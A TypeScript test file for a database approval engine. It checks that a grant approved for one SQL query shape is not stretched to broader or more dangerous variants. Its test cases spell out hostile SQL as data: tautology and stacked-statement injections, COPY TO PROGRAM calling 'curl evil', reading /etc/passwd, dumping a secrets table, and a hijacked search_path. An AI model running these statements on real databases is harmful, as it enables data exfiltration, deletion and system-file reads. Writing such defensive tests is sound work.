/** A grant for a shape is never stretched (A5): with the facts as they are, what serves other values serves nothing else. */
import { afterAll, describe, expect, test } from 'vitest';
import { boundOf, differing } from '#engine/approvals/binding';
import type { ApprovalDraft } from '#client/approvals';
import { draft } from '#test/support/approvals';
import { openFacts } from '#test/support/facts';

const facts = openFacts();
afterAll(() => facts.close());

const GRANT = { grant: { of: 'shape', uses: null }, bind_session: true } as const;

async function drafted(sql: string): Promise<ApprovalDraft> {
  const read = await facts.read(sql, { major: 17 });
  const objects = [...new Set(read.effects.map(({ verb, object }) => `${verb} ${object.qualified}`))].toSorted();
  return { ...draft(), facts: read, payload: { bytes: Buffer.from(sql), media: 'text' }, params: null, objects };
}

async function stretches(approved: string, used: string): Promise<boolean> {
  const [a, b] = [await drafted(approved), await drafted(used)];
  expect([approved, a.facts.parsed, used, b.facts.parsed]).toEqual([approved, true, used, true]);
  return differing(boundOf(a, GRANT), boundOf(b, GRANT)) === null;
}

test.each([
  ["UPDATE payments SET status = 'paid' WHERE id = 1", "UPDATE payments SET status = 'void' WHERE id = 2"],
  ["DELETE FROM payments WHERE status = 'new' AND n > 5", "DELETE FROM payments WHERE status = 'old' AND n > 0"],
  ["INSERT INTO payments (id, note) VALUES (1, 'a')", "INSERT INTO payments (id, note) VALUES (2, 'b')"],
  [
    "INSERT INTO t (id, a) VALUES (1, 'a') ON CONFLICT (id) DO UPDATE SET a = 'a'",
    "INSERT INTO t (id, a) VALUES (2, 'b') ON CONFLICT (id) DO UPDATE SET a = 'b'",
  ],
  ["SELECT * FROM customers WHERE created > '2024-01-01'", "SELECT * FROM customers WHERE created > '2020-01-01'"],
])('other values: %s → %s', async (approved, used) => {
  expect(await stretches(approved, used)).toBe(true);
});

describe('A5: never stretched to', () => {
  test.each([
    ['DELETE FROM payments WHERE id = 1 OR 1 = 2', 'DELETE FROM payments WHERE id = 1 OR 1 = 1'],
    ['DELETE FROM payments WHERE id = 1 OR false', 'DELETE FROM payments WHERE id = 1 OR true'],
    ['DELETE FROM payments WHERE 1 = 2', 'DELETE FROM payments WHERE 1 = 1'],
    ['DELETE FROM payments WHERE id > 100000', 'DELETE FROM payments WHERE id > 0'],
    ["DELETE FROM payments WHERE note LIKE 'x'", "DELETE FROM payments WHERE note LIKE '%'"],
    [
      'WITH gone AS (DELETE FROM payments WHERE false RETURNING *) SELECT * FROM gone',
      'WITH gone AS (DELETE FROM payments WHERE true RETURNING *) SELECT * FROM gone',
    ],
    [
      'INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = 1 WHERE 1 = 2',
      'INSERT INTO t SELECT * FROM u ON CONFLICT (id) DO UPDATE SET a = 1 WHERE 1 = 1',
    ],
    ['INSERT INTO t SELECT * FROM u WHERE 1 = 2', 'INSERT INTO t SELECT * FROM u WHERE 1 = 1'],
    ['MERGE INTO t USING u ON t.id = 1 WHEN MATCHED AND 1 = 2 THEN DELETE', 'MERGE INTO t USING u ON t.id = 1 WHEN MATCHED AND 1 = 1 THEN DELETE'],
    ['SELECT * FROM customers LIMIT 1', 'SELECT * FROM customers LIMIT 1000000'],
    ['SELECT * FROM customers LIMIT 1', 'SELECT * FROM customers'],
    ["SELECT setval('a_seq', 1)", "SELECT setval('b_seq', 1)"],
    ["SELECT set_config('work_mem', '1MB', false)", "SELECT set_config('search_path', 'evil', false)"],
    ['SELECT pg_terminate_backend(1)', 'SELECT pg_terminate_backend(2)'],
    ["SELECT pg_read_file('a')", "SELECT pg_read_file('/etc/passwd')"],
    ["SELECT query_to_xml('select 1', true, true, '')", "SELECT query_to_xml('delete from t', true, true, '')"],
    ["SELECT table_to_xml('t', true, true, '')", "SELECT table_to_xml('secrets', true, true, '')"],
    ["SELECT 'a'::regclass", "SELECT 'b'::regclass"],
    ["COPY t TO PROGRAM 'true'", "COPY t TO PROGRAM 'curl evil'"],
    ["DO 'begin end'", "DO 'begin delete from t; end'"],
    ['SET work_mem = 1', 'SET work_mem = 2'],
    ["ALTER SYSTEM SET archive_command = 'a'", "ALTER SYSTEM SET archive_command = 'b'"],
    ["ALTER ROLE a PASSWORD 'x'", "ALTER ROLE a PASSWORD 'y'"],
    ['ALTER TABLE t ALTER a SET DEFAULT 1', 'ALTER TABLE t ALTER a SET DEFAULT 2'],
    ['ALTER TABLE t ADD CHECK (a > 1)', 'ALTER TABLE t ADD CHECK (a > 2)'],
    ['CREATE POLICY p ON t USING (tenant = 1)', 'CREATE POLICY p ON t USING (tenant = 2)'],
    ["COMMIT PREPARED 'a'", "COMMIT PREPARED 'b'"],
    ["NOTIFY a, 'x'", "NOTIFY a, 'y'"],
    ['UPDATE t SET a = 1 WHERE id = 1', 'UPDATE t SET b = 1 WHERE id = 1'],
    ['UPDATE t SET a = 1 WHERE id = 1', 'UPDATE u SET a = 1 WHERE id = 1'],
    ['UPDATE t SET a = 1 WHERE id = 1', 'UPDATE t SET a = 1'],
    ['UPDATE t SET a = 1 WHERE id = 1', 'UPDATE t SET a = 1 WHERE id = 1 RETURNING *'],
    ['UPDATE t SET a = 1 WHERE id = 1', 'UPDATE t SET a = 1 WHERE id = 1; DELETE FROM t'],
    ['UPDATE t SET a = 1 WHERE id = 1', 'UPDATE t SET a = (SELECT 1) WHERE id = 1'],
  ])('%s → %s', async (approved, used) => {
    expect(await stretches(approved, used)).toBe(false);
    expect(await stretches(used, approved)).toBe(false);
  });
});
